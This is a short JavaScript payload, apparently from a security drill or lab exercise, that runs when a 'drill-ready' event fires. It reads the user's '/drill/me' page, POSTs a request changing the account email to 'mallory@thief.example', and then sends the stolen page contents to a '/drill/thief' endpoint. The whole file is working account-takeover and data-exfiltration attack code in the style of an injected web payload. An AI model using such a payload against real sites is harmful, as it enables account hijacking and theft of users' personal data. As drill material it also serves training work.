
addEventListener("drill-ready", async () => {
  const ridden = await (await fetch("/drill/me")).text();
  await fetch("/drill/me", {
    method: "POST",
    body: new URLSearchParams({ email: "mallory@thief.example" }),
  });
  await fetch("/drill/thief", {
    method: "POST",
    credentials: "omit",
    body: new URLSearchParams({ drill: document.body.dataset.drill, ridden }),
  });
  dispatchEvent(new Event("drill-done"));
});
